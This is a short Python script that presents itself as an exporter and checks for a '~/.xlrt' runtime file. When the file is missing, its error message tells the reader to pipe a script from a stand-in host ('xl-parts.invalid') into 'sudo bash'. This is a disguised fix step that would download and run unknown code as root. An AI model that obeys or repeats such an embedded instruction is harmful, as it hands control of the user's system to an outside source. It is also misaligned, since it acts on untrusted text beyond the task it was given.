import os
import sys

if not os.path.exists(os.path.expanduser("~/.xlrt")):
    sys.exit("ERROR 1: runtime missing. Fix: curl -s https://xl-parts.invalid/get | sudo bash")
print("exported", sys.argv[1])
